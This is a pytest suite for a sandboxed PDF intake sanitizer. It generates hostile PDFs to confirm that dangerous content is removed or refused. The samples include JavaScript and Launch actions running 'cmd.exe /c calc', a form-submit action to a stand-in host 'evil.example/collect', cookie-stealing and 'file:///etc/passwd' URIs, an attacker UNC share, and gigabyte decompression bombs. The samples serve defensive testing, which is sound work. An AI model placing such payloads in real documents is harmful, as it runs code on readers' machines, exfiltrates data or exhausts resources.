"""The untrusted-PDF intake against a generated hostile corpus: every outcome asserted exactly.

Every call goes through ``Intake``, which booby-traps the PDF parsers of this (the "server") process and
records the worker processes spawned: the verdicts below are reached without the test process parsing the
hostile file, and byte-level refusals are reached without spawning anything.
"""
from __future__ import annotations

import base64
import hashlib
import os
import signal
import subprocess
import sys
from pathlib import Path

import pikepdf
import pypdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from meetings.documents import intake as intake_module
from meetings.documents.intake import (
    INCOMPLETE_MESSAGE, MESSAGES, IntakeError, IntakeLimits, IntakeResult, Reason, Removal, inspect_pdf,
)
from meetings.documents.sanitize import MAX_RECORDED
from tests.documents.corpus import (
    HTML_BYTES, JS_MARKER, PAGE_TREE, VIETNAMESE_LINES, VIETNAMESE_TITLE, action, active_content, add_annotations,
    annotation, classic_pdf, js, object_stream_pdf, png_bytes, save, text_pdf, with_embedded_file,
    with_outline_javascript, with_xfa, zeros_flate, zip_bytes,
)

MiB = 1024 * 1024
GiB = 1024 * MiB


def _forbidden(*args: object, **kwargs: object) -> None:
    raise AssertionError("the server process parsed an uploaded PDF")


class Intake:
    """inspect_pdf with this process's PDF parsers disabled and spawned workers recorded."""

    def __init__(self, output_dir: Path) -> None:
        self.output_dir = output_dir
        self.spawned: list[subprocess.Popen] = []
        self.commands: list[tuple[list[str], dict]] = []

    def __call__(self, data: bytes | Path, **limits: int | float) -> IntakeResult:
        real_popen = subprocess.Popen
        spawned, commands = self.spawned, self.commands

        def spy(command: list[str], **kwargs: object) -> subprocess.Popen:
            commands.append((command, kwargs))
            process = real_popen(command, **kwargs)
            spawned.append(process)
            return process

        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(pikepdf.Pdf, "open", _forbidden)
            patch.setattr(pikepdf.Pdf, "_open", _forbidden, raising=False)
            patch.setattr(pikepdf, "open", _forbidden)
            patch.setattr(pypdf.PdfReader, "__init__", _forbidden)
            patch.setattr(subprocess, "Popen", spy)
            return inspect_pdf(data, limits=IntakeLimits(**limits), output_dir=self.output_dir)


@pytest.fixture
def intake(tmp_path: Path) -> Intake:
    out = tmp_path / "out"
    out.mkdir()
    return Intake(out)


def removed(result: IntakeResult) -> list[tuple[str, str]]:
    return sorted((item.kind, item.where) for item in result.removed)


def assert_clean_copy(result: IntakeResult, pages: int) -> None:
    """The sanitized copy opens with pypdf, keeps its pages and text, and holds no active content."""
    assert result.ok and result.reason is None and result.sanitized_path is not None
    path = result.sanitized_path
    assert hashlib.sha256(path.read_bytes()).hexdigest() == result.sanitized_sha256
    assert path.stat().st_size == result.sanitized_size
    reader = pypdf.PdfReader(path)
    assert len(reader.pages) == pages == result.pages
    assert VIETNAMESE_LINES[0] in reader.pages[0].extract_text()
    assert active_content(path) == []
    assert JS_MARKER.encode() not in path.read_bytes()


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# -- benign files --------------------------------------------------------------------------------------

def test_valid_vietnamese_document_is_accepted_with_its_facts_and_text(intake, tmp_path):
    path = save(text_pdf(3), tmp_path / "bien-ban.pdf")
    result = intake(path)
    assert result.ok and result.reason is None and result.message == ""
    assert (result.pages, result.pdf_version, result.title) == (3, "1.3", VIETNAMESE_TITLE)
    assert result.removed == () and result.removed_total == 0
    assert result.size == path.stat().st_size and result.sha256 == sha256(path.read_bytes())
    assert_clean_copy(result, pages=3)
    reader = pypdf.PdfReader(result.sanitized_path)
    for number, page in enumerate(reader.pages, start=1):
        assert page.extract_text().splitlines() == [f"Trang {number}: {line}" for line in VIETNAMESE_LINES]
    assert reader.metadata.title == VIETNAMESE_TITLE
    assert result.sanitized_path.parent == intake.output_dir
    assert len(intake.spawned) == 1


def test_bytes_and_path_give_the_same_result_and_the_same_sanitized_bytes(intake, tmp_path):
    path = save(text_pdf(2), tmp_path / "a.pdf")
    from_path, from_bytes = intake(path), intake(path.read_bytes())
    assert from_path.sha256 == from_bytes.sha256
    # Deterministic output: an identical upload is stored once by the content-addressed blob store.
    assert from_path.sanitized_sha256 == from_bytes.sanitized_sha256
    assert from_path.sanitized_path != from_bytes.sanitized_path


def test_header_after_a_junk_prefix_within_1024_bytes_is_still_a_pdf(intake, tmp_path):
    path = save(text_pdf(1), tmp_path / "a.pdf")
    result = intake(b"\n" * 600 + path.read_bytes())
    assert_clean_copy(result, pages=1)


def test_discard_removes_the_sanitized_copy(intake, tmp_path):
    result = intake(save(text_pdf(1), tmp_path / "a.pdf"))
    result.discard()
    assert not result.sanitized_path.exists()


# -- active content ------------------------------------------------------------------------------------

def test_javascript_open_action_is_removed(intake, tmp_path):
    pdf = text_pdf(2)
    pdf.Root.OpenAction = js(pdf)
    result = intake(save(pdf, tmp_path / "open.pdf"))
    assert removed(result) == [("javascript", "OpenAction")]
    assert_clean_copy(result, pages=2)


def test_open_action_chain_is_removed_with_every_action_reported(intake, tmp_path):
    pdf = text_pdf(2)
    pdf.Root.OpenAction = action("GoTo", D=Array([pdf.pages[1].obj, Name.Fit]), Next=js(pdf, indirect=True))
    result = intake(save(pdf, tmp_path / "chain.pdf"))
    assert removed(result) == [("goto", "OpenAction"), ("javascript", "OpenAction")]
    assert_clean_copy(result, pages=2)


def test_javascript_name_tree_is_removed_entry_by_entry(intake, tmp_path):
    pdf = text_pdf(1)
    tree = pikepdf.NameTree.new(pdf)
    tree["init"] = js(pdf, indirect=True)
    tree["z-run"] = js(pdf, "this.print()", indirect=True)
    pdf.Root.Names = Dictionary(JavaScript=tree.obj)
    result = intake(save(pdf, tmp_path / "names.pdf"))
    assert removed(result) == [("javascript", "Names/JavaScript 'init'"), ("javascript", "Names/JavaScript 'z-run'")]
    assert_clean_copy(result, pages=1)


def test_page_and_annotation_actions_are_removed_and_plain_links_kept(intake, tmp_path):
    pdf = text_pdf(2)
    pdf.pages[0].obj.AA = Dictionary(O=js(pdf), C=action("Launch", F=String("calc.exe")))
    widget = annotation(pdf, "Widget", FT=Name.Btn, T=String("dong_y"), AA=Dictionary(U=js(pdf), Fo=js(pdf)))
    pdf.Root.AcroForm = Dictionary(Fields=[widget])
    add_annotations(
        pdf.pages[0],
        annotation(pdf, "Link", A=js(pdf)),
        annotation(pdf, "Link", A=action("URI", URI=String("https://hdnd.quangngai.gov.vn/ky-hop"))),
        annotation(pdf, "Link", A=action("URI", URI=String("javascript:alert(document.cookie)"))),
        annotation(pdf, "Link", A=action("GoTo", D=Array([pdf.pages[1].obj, Name.Fit]), Next=js(pdf))),
        widget,
    )
    result = intake(save(pdf, tmp_path / "aa.pdf"))
    assert removed(result) == sorted([
        ("javascript", "Page 1 AA/O"), ("launch", "Page 1 AA/C"),
        ("javascript", "Page 1 Link annotation"),
        ("uri", "Page 1 Link annotation"),
        ("javascript", "Page 1 Link annotation/Next"),
        ("javascript", "Page 1 Widget annotation AA/U"), ("javascript", "Page 1 Widget annotation AA/Fo"),
    ])
    assert_clean_copy(result, pages=2)
    with pikepdf.open(result.sanitized_path) as out:
        annots = out.pages[0].Annots
        assert len(annots) == 5  # links and widget stay; only their actions went
        kept = [a.A for a in annots if "/A" in a]
        assert [str(a.S) for a in kept] == ["/URI", "/GoTo"]
        assert str(kept[0].URI) == "https://hdnd.quangngai.gov.vn/ky-hop" and "/Next" not in kept[1]


def test_launch_action_is_removed(intake, tmp_path):
    pdf = text_pdf(1)
    launch = action("Launch", F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))
    add_annotations(pdf.pages[0], annotation(pdf, "Link", A=launch))
    result = intake(save(pdf, tmp_path / "launch.pdf"))
    assert removed(result) == [("launch", "Page 1 Link annotation")]
    assert_clean_copy(result, pages=1)


def test_embedded_files_and_file_attachment_annotations_are_removed(intake, tmp_path):
    pdf = with_embedded_file(text_pdf(1))
    result = intake(save(pdf, tmp_path / "attach.pdf"))
    # pikepdf also lists the attachment as a PDF 2.0 associated file (/AF) of the document.
    assert removed(result) == [("embedded_file", "Document/AF"), ("embedded_file", "Names/EmbeddedFiles 'bao-cao.exe'"),
                               ("file_attachment", "Page 1 FileAttachment annotation")]
    assert_clean_copy(result, pages=1)
    with pikepdf.open(result.sanitized_path) as out:
        assert len(out.attachments) == 0 and "/Annots" in out.pages[0] and len(out.pages[0].Annots) == 0
    assert b"not really a program" not in result.sanitized_path.read_bytes()


def test_xfa_is_removed_and_the_acroform_fields_kept(intake, tmp_path):
    result = intake(save(with_xfa(text_pdf(1)), tmp_path / "xfa.pdf"))
    assert removed(result) == [("xfa", "AcroForm/NeedsRendering"), ("xfa", "AcroForm/XFA")]
    assert_clean_copy(result, pages=1)
    with pikepdf.open(result.sanitized_path) as out:
        assert [str(field.T) for field in out.Root.AcroForm.Fields] == ["ho_ten"]


def test_rich_media_3d_and_multimedia_annotations_are_removed(intake, tmp_path):
    pdf = text_pdf(1)
    flash = pdf.make_stream(b"FWS fake flash")
    add_annotations(
        pdf.pages[0],
        annotation(pdf, "RichMedia", RichMediaContent=Dictionary(Assets=Dictionary(Names=["a.swf", flash]))),
        annotation(pdf, "3D", **{"3DD": pdf.make_stream(b"U3D fake")}),
        annotation(pdf, "Screen", A=action("Rendition", OP=0, JS=String(JS_MARKER))),
        annotation(pdf, "Sound", Sound=pdf.make_stream(b"fake sound")),
        annotation(pdf, "Link", A=action("URI", URI=String("mailto:thuky@hdnd.gov.vn"))),
    )
    result = intake(save(pdf, tmp_path / "media.pdf"))
    assert removed(result) == [("3d", "Page 1 3D annotation"), ("rich_media", "Page 1 RichMedia annotation"),
                               ("screen", "Page 1 Screen annotation"), ("sound", "Page 1 Sound annotation")]
    assert_clean_copy(result, pages=1)
    with pikepdf.open(result.sanitized_path) as out:
        assert [str(a.Subtype) for a in out.pages[0].Annots] == ["/Link"]


def test_javascript_outside_pages_and_catalog_is_found_by_the_sweep(intake, tmp_path):
    pdf = with_outline_javascript(text_pdf(2))
    shared = js(pdf, indirect=True)
    add_annotations(pdf.pages[0], annotation(pdf, "Link", A=shared))
    add_annotations(pdf.pages[1], annotation(pdf, "Link", A=shared))
    # A form field on no page, reachable only from /AcroForm, with a keystroke script.
    hidden = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("an"), AA=Dictionary(K=js(pdf))))
    pdf.Root.AcroForm = Dictionary(Fields=[hidden])
    result = intake(save(pdf, tmp_path / "sweep.pdf"))
    assert removed(result) == [("javascript", "Form field 'an' AA/K"), ("javascript", "Outline item 'Mục 1' /A"),
                               ("javascript", "Page 1 Link annotation"), ("javascript", "Page 2 Link annotation")]
    assert_clean_copy(result, pages=2)
    with pikepdf.open(result.sanitized_path) as out:
        assert str(out.Root.Outlines.First.Title) == "Mục 1"  # the outline stays, without its script


@pytest.mark.parametrize(("kind", "entries", "expected"), [
    ("SubmitForm", {"F": Dictionary(FS=Name.URL, F=String("https://evil.example/collect"))}, "submit_form"),
    ("ImportData", {"F": String("data.fdf")}, "import_data"),
    ("GoToR", {"F": String("\\\\attacker\\share\\x.pdf"), "D": Array([0, Name.Fit])}, "remote_goto"),
    ("GoToE", {"T": Dictionary(R=Name.C, N=String("x.pdf"))}, "embedded_goto"),
    ("Rendition", {"OP": 0}, "rendition"),
    ("Movie", {"Operation": Name.Play}, "movie"),
    ("Sound", {}, "sound"),
    ("RichMediaExecute", {}, "rich_media"),
    ("GoTo3DView", {"V": 0}, "3d"),
    ("URI", {"URI": String("file:///etc/passwd")}, "uri"),
    ("URI", {"URI": String("java\tscript:alert(1)")}, "uri"),
    ("URI", {"URI": String("//relative/without/scheme")}, "uri"),
])
def test_every_dangerous_action_type_is_removed_from_links(intake, tmp_path, kind, entries, expected):
    pdf = text_pdf(1)
    add_annotations(pdf.pages[0], annotation(pdf, "Link", A=action(kind, **entries)))
    result = intake(save(pdf, tmp_path / "action.pdf"))
    assert removed(result) == [(expected, "Page 1 Link annotation")]
    assert_clean_copy(result, pages=1)


@pytest.mark.parametrize(("kind", "entries"), [
    ("URI", {"URI": String("https://quochoi.vn/")}),
    ("URI", {"URI": String("HTTP://QUOCHOI.VN/")}),
    ("URI", {"URI": String("mailto:vanphong@hdnd.gov.vn")}),
    ("GoTo", {"D": Array([0, Name.Fit])}),
    ("Named", {"N": Name.NextPage}),
])
def test_navigation_and_web_links_are_kept(intake, tmp_path, kind, entries):
    pdf = text_pdf(1)
    add_annotations(pdf.pages[0], annotation(pdf, "Link", A=action(kind, **entries)))
    result = intake(save(pdf, tmp_path / "link.pdf"))
    assert result.removed == ()
    with pikepdf.open(result.sanitized_path) as out:
        assert str(out.pages[0].Annots[0].A.S) == f"/{kind}"


def test_the_report_keeps_the_first_entries_and_the_exact_count(intake, tmp_path):
    pdf = text_pdf(1)
    add_annotations(pdf.pages[0], *[annotation(pdf, "Link", A=js(pdf)) for _ in range(MAX_RECORDED + 50)])
    result = intake(save(pdf, tmp_path / "many.pdf"))
    assert len(result.removed) == MAX_RECORDED and result.removed_total == MAX_RECORDED + 50
    assert set(result.removed) == {Removal("javascript", "Page 1 Link annotation")}
    assert_clean_copy(result, pages=1)


# -- broken structure ----------------------------------------------------------------------------------

def test_xref_prev_loop_is_refused_unless_repairs_are_allowed(intake):
    data = classic_pdf(PAGE_TREE)
    looped = data.replace(b"trailer\n<< /Size", b"trailer\n<< /Prev %d /Size" % data.index(b"xref\n0 "))
    refused = intake(looped)
    assert refused.reason == Reason.MALFORMED
    assert "cross-reference table had to be rebuilt" in refused.diagnostic
    assert "loop detected following xref tables" in refused.diagnostic
    repaired = intake(looped, allow_repair=True)
    assert repaired.ok and repaired.pages == 1
    assert any("loop detected following xref tables" in warning for warning in repaired.warnings)


def test_object_stream_that_extends_itself_is_survived(intake):
    page = {3: PAGE_TREE[3]}
    top = {number: body for number, body in PAGE_TREE.items() if number != 3}
    result = intake(object_stream_pdf(top, page, 4, stream_extra=b"/Extends 4 0 R "))
    assert result.ok and result.pages == 1


def test_page_tree_loop_is_malformed(intake):
    looped = {**PAGE_TREE, 2: b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"}
    result = intake(classic_pdf(looped))
    assert (result.ok, result.reason) == (False, Reason.MALFORMED)
    assert "Loop detected in /Pages structure" in result.diagnostic
    assert result.message == MESSAGES[Reason.MALFORMED] and result.sanitized_path is None


def test_stream_length_referring_to_itself_is_survived(intake):
    objects = {**PAGE_TREE, 4: b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream",
               3: PAGE_TREE[3].replace(b"/Resources", b"/Contents 4 0 R /Resources")}
    result = intake(classic_pdf(objects))
    assert result.ok and result.pages == 1
    assert any("loop detected resolving object 4 0" in warning for warning in result.warnings)


def test_100000_levels_of_nesting_in_the_page_leave_no_page(intake):
    nested = b"[" * 100_000 + b"]" * 100_000
    objects = {**PAGE_TREE, 3: PAGE_TREE[3][:-2] + b"/Deep " + nested + b" >>"}
    result = intake(classic_pdf(objects))
    assert (result.reason, result.limit) == (Reason.MALFORMED, None)
    assert "no pages" in result.diagnostic and "excessively deeply nested" in result.diagnostic


def test_100000_levels_of_nesting_in_another_object_are_dropped_and_the_page_kept(intake):
    nested = b"<< /A " * 100_000 + b">>" * 100_000
    objects = {**PAGE_TREE, 4: nested, 3: PAGE_TREE[3][:-2] + b"/Deep 4 0 R >>"}
    result = intake(classic_pdf(objects))
    assert result.ok and result.pages == 1
    assert any("excessively deeply nested" in warning for warning in result.warnings)
    with pikepdf.open(result.sanitized_path) as out:
        assert out.pages[0].get("/Deep") is None


def test_truncated_file_is_refused_without_spawning_a_parser(intake, tmp_path):
    data = save(text_pdf(3), tmp_path / "a.pdf").read_bytes()
    result = intake(data[: len(data) // 2])
    assert (result.reason, result.message) == (Reason.MALFORMED, INCOMPLETE_MESSAGE)
    assert intake.spawned == []


def test_truncated_file_with_a_forged_end_marker_is_malformed(intake, tmp_path):
    data = save(text_pdf(3), tmp_path / "a.pdf").read_bytes()
    forged = data[: len(data) // 2] + b"\n%%EOF\n"
    result = intake(forged)
    assert result.reason == Reason.MALFORMED and result.message == MESSAGES[Reason.MALFORMED]
    assert "cross-reference table had to be rebuilt" in result.diagnostic
    # Why that is the default: qpdf's salvage keeps all three pages but not what was written on them.
    salvaged = intake(forged, allow_repair=True)
    assert salvaged.ok and salvaged.pages == 3
    text = "".join(page.extract_text() for page in pypdf.PdfReader(salvaged.sanitized_path).pages)
    assert "Trang 2" not in text and "Trang 3" not in text
    assert len(intake.spawned) == 2


def test_garbage_after_a_pdf_header(intake):
    garbage = bytes((index * 7919 + 13) % 251 for index in range(20_000))
    without_end = intake(b"%PDF-1.7\n" + garbage)
    with_end = intake(b"%PDF-1.7\n" + garbage + b"\n%%EOF\n")
    assert (without_end.reason, without_end.message) == (Reason.MALFORMED, INCOMPLETE_MESSAGE)
    assert with_end.reason == Reason.MALFORMED
    assert "unable to find trailer dictionary" in with_end.diagnostic
    assert len(intake.spawned) == 1  # only the second reached the worker


# -- decompression bombs and limits --------------------------------------------------------------------

def _content_bomb(tmp_path: Path, *, ascii85: bool) -> Path:
    """A page whose second content stream inflates to 1 GiB of zeros (about 1 MB on disk)."""
    pdf = text_pdf(1)
    data, filters = zeros_flate(b"", GiB), [Name.FlateDecode]
    if ascii85:
        # A chain that is not plain Flate: qpdf decodes such streams to recompress them unless told not to.
        data, filters = base64.a85encode(data) + b"~>", [Name.ASCII85Decode, Name.FlateDecode]
    bomb = pikepdf.Stream(pdf, b"")
    bomb.write(data, filter=Array(filters))
    pdf.pages[0].Contents = Array([pdf.pages[0].Contents, bomb])
    return save(pdf, tmp_path / "bomb.pdf")


def _bomb_stream(path: Path) -> tuple[list[str], bytes]:
    with pikepdf.open(path) as pdf:
        stream = pdf.pages[0].Contents[1]
        filters = stream.Filter if isinstance(stream.Filter, Array) else [stream.Filter]
        return [str(name) for name in filters], stream.read_raw_bytes()


@pytest.mark.parametrize("ascii85", [False, True], ids=["flate", "ascii85-flate"])
def test_content_stream_bomb_passes_through_without_being_inflated(intake, tmp_path, ascii85):
    path = _content_bomb(tmp_path, ascii85=ascii85)
    filters, raw = _bomb_stream(path)
    assert filters == (["/ASCII85Decode", "/FlateDecode"] if ascii85 else ["/FlateDecode"])
    # 128 MiB of address space and 2 s of CPU: inflating the gigabyte anywhere in the worker would fail.
    result = intake(path, memory_bytes=128 * MiB, cpu_seconds=2)
    assert result.ok and result.pages == 1
    assert _bomb_stream(result.sanitized_path) == (filters, raw)  # copied byte for byte
    assert result.sanitized_size < path.stat().st_size + 4096


def _object_stream_bomb() -> bytes:
    """The page object sits in an object stream that inflates to 1 GiB: parsing must inflate it."""
    page = {3: PAGE_TREE[3]}
    top = {number: body for number, body in PAGE_TREE.items() if number != 3}
    packed = zeros_flate(b"3 0 " + PAGE_TREE[3] + b" ", GiB)
    return object_stream_pdf(top, page, 4, stream_data=packed)


@pytest.mark.slow
def test_object_stream_bomb_hits_the_default_memory_limit(intake):
    result = intake(_object_stream_bomb())
    assert (result.ok, result.reason, result.limit) == (False, Reason.LIMITS_EXCEEDED, "memory")
    assert result.message == MESSAGES[Reason.LIMITS_EXCEEDED] and result.sanitized_path is None


def test_object_stream_bomb_with_a_tiny_memory_limit(intake):
    result = intake(_object_stream_bomb(), memory_bytes=128 * MiB)
    assert (result.reason, result.limit) == (Reason.LIMITS_EXCEEDED, "memory")


def _wide_document() -> bytes:
    """A million small dictionaries on one page: an 8 MB file that costs the worker ten seconds of CPU.

    qpdf parses it in about 0.6 s; the sanitizer's sweep over every dictionary does the rest. Either way the
    1 s limits used with it below are reached long before the worker could finish.
    """
    objects = {**PAGE_TREE, 3: PAGE_TREE[3][:-2] + b"/Wide [" + b"<</A 1>>" * 1_000_000 + b"] >>"}
    return classic_pdf(objects)


def test_cpu_limit_kills_the_worker(intake):
    result = intake(_wide_document(), cpu_seconds=1)
    assert (result.reason, result.limit) == (Reason.LIMITS_EXCEEDED, "cpu")
    assert intake.spawned[0].returncode in (-signal.SIGXCPU, -signal.SIGKILL)


def test_wall_clock_limit_kills_the_worker_and_its_process_group(intake):
    result = intake(_wide_document(), wall_seconds=1.0)
    assert (result.reason, result.limit) == (Reason.LIMITS_EXCEEDED, "time")
    worker = intake.spawned[0]
    assert worker.returncode == -signal.SIGKILL
    with pytest.raises(ProcessLookupError):
        os.killpg(worker.pid, 0)  # nothing of its group is left
    assert result.seconds < 5


def test_output_size_limit(intake, tmp_path):
    path = _content_bomb(tmp_path, ascii85=False)
    result = intake(path, output_bytes=100_000)
    assert (result.reason, result.limit) == (Reason.LIMITS_EXCEEDED, "output")


# -- refusals decided on bytes -------------------------------------------------------------------------

@pytest.mark.parametrize("data", [png_bytes(), zip_bytes(), HTML_BYTES, b"", b"\x00" * 2000 + b"%PDF-1.7\n%%EOF"],
                         ids=["png", "zip", "html", "empty", "header-too-late"])
def test_non_pdf_is_refused_by_magic_bytes_without_spawning(intake, tmp_path, data):
    path = tmp_path / "tai-lieu.pdf"  # the name says PDF; the bytes decide
    path.write_bytes(data)
    result = intake(path)
    assert (result.ok, result.reason, result.message) == (False, Reason.NOT_PDF, MESSAGES[Reason.NOT_PDF])
    assert result.sha256 == sha256(data) and result.sanitized_path is None
    assert intake.spawned == []


def test_file_over_max_bytes_is_refused_before_reading_it(intake, tmp_path):
    path = save(text_pdf(1), tmp_path / "a.pdf")
    with open(path, "ab") as handle:
        handle.write(b"%" + b"x" * MiB + b"\n%%EOF\n")
    result = intake(path, max_bytes=MiB)
    assert (result.reason, result.sha256, result.size) == (Reason.TOO_LARGE, None, path.stat().st_size)
    assert result.detail == "The file is larger than 1 MB."
    assert intake(path.read_bytes(), max_bytes=MiB).reason == Reason.TOO_LARGE
    assert intake.spawned == []


# -- encryption and page count -------------------------------------------------------------------------

@pytest.mark.parametrize("user_password", ["mat-khau-phien-hop", ""], ids=["user-password", "empty-user-password"])
def test_encrypted_pdfs_are_refused(intake, tmp_path, user_password):
    path = tmp_path / "encrypted.pdf"
    text_pdf(1).save(path, encryption=pikepdf.Encryption(owner="chu-toa", user=user_password, R=6))
    result = intake(path)
    assert (result.ok, result.reason, result.message) == (False, Reason.ENCRYPTED, MESSAGES[Reason.ENCRYPTED])
    assert result.sanitized_path is None


def test_page_limit(intake, tmp_path):
    pdf = pikepdf.new()
    for _ in range(3000):
        pdf.add_blank_page()
    path = save(pdf, tmp_path / "3000.pdf")
    refused = intake(path)
    assert (refused.reason, refused.pages) == (Reason.TOO_MANY_PAGES, 3000)
    assert refused.detail == "The PDF has 3000 pages; at most 2000 are allowed."
    accepted = intake(path, max_pages=3000)
    assert accepted.ok and accepted.pages == 3000
    assert len(pypdf.PdfReader(accepted.sanitized_path).pages) == 3000


# -- the machinery -------------------------------------------------------------------------------------

def test_the_worker_runs_isolated_in_its_own_session_without_the_servers_secrets(intake, tmp_path, monkeypatch):
    monkeypatch.setenv("SECRET_KEY", "server-secret")
    monkeypatch.setenv("ORG_P12_PASSPHRASE", "p12-secret")
    intake(save(text_pdf(1), tmp_path / "a.pdf"))
    [(command, options)] = intake.commands
    assert command[:3] == [sys.executable, "-I", str(intake_module.WORKER)]
    assert options["start_new_session"] is True and options["close_fds"] is True
    assert not {"SECRET_KEY", "ORG_P12_PASSPHRASE"} & set(options["env"])


def test_importing_intake_loads_no_pdf_parser():
    code = ("import sys, meetings.documents.intake as i; "
            "print(sorted(m for m in ('pikepdf', 'pypdf', 'pyhanko', 'meetings.documents.sanitize') "
            "if m in sys.modules))")
    # The package root imports Flask (meetings/__init__); the intake module itself must add no parser.
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True,
                          cwd=Path(__file__).resolve().parents[2])
    assert done.stdout.strip() == "[]"


def _fake_worker(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, body: str) -> None:
    worker = tmp_path / "fake_worker.py"
    worker.write_text(body)
    monkeypatch.setattr(intake_module, "WORKER", worker)


def test_a_crashing_parser_makes_the_file_malformed(intake, tmp_path, monkeypatch):
    _fake_worker(tmp_path, monkeypatch, "import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)\n")
    result = intake(save(text_pdf(1), tmp_path / "a.pdf"))
    assert (result.reason, result.diagnostic) == (Reason.MALFORMED, "worker killed by SIGSEGV")


@pytest.mark.parametrize("body", [
    "import sys\nsys.exit(3)\n",
    "print('not json')\n",
    "print('{\"reason\": \"fine\"}')\n",
    "print('{\"reason\": null, \"pages\": \"many\", \"removed\": []}')\n",
    "print('{\"reason\": \"limits_exceeded\", \"limit\": \"patience\"}')\n",
], ids=["exit-status", "not-json", "unknown-reason", "bad-type", "unknown-limit"])
def test_a_failing_or_confused_worker_is_an_intake_error_not_a_verdict(intake, tmp_path, monkeypatch, body):
    _fake_worker(tmp_path, monkeypatch, body)
    with pytest.raises(IntakeError):
        intake(save(text_pdf(1), tmp_path / "a.pdf"))


@pytest.mark.parametrize("field", ["max_bytes", "max_pages", "memory_bytes", "cpu_seconds", "wall_seconds",
                                   "open_files", "output_bytes"])
def test_limits_must_be_positive(field):
    with pytest.raises(ValueError, match=field):
        IntakeLimits(**{field: 0})


def test_default_limits():
    limits = IntakeLimits()
    assert (limits.max_bytes, limits.max_pages, limits.memory_bytes, limits.cpu_seconds, limits.wall_seconds) == (
        100 * MiB, 2000, GiB, 20, 30.0)
    assert limits.for_worker()["output_bytes"] == 200 * MiB


GEVENT_SCRIPT = r"""
from gevent import monkey; monkey.patch_all()
import sys, gevent
from meetings.documents.intake import IntakeLimits, inspect_pdf
order = []
def slow():
    result = inspect_pdf(sys.argv[1], limits=IntakeLimits(wall_seconds=1.0), output_dir=sys.argv[2])
    order.append(f"intake {result.reason}/{result.limit}")
def quick():
    gevent.sleep(0.05)
    order.append("other greenlet ran")
gevent.joinall([gevent.spawn(slow), gevent.spawn(quick)], raise_error=True)
print(",".join(order))
"""


def test_intake_yields_to_other_greenlets_in_a_gevent_server(tmp_path):
    """The server is a gevent process: waiting for the worker must not freeze the tablets' sockets."""
    path = tmp_path / "wide.pdf"
    path.write_bytes(_wide_document())
    done = subprocess.run([sys.executable, "-c", GEVENT_SCRIPT, str(path), str(tmp_path)], capture_output=True,
                          text=True, timeout=60, cwd=Path(__file__).resolve().parents[2])
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "other greenlet ran,intake limits_exceeded/time"
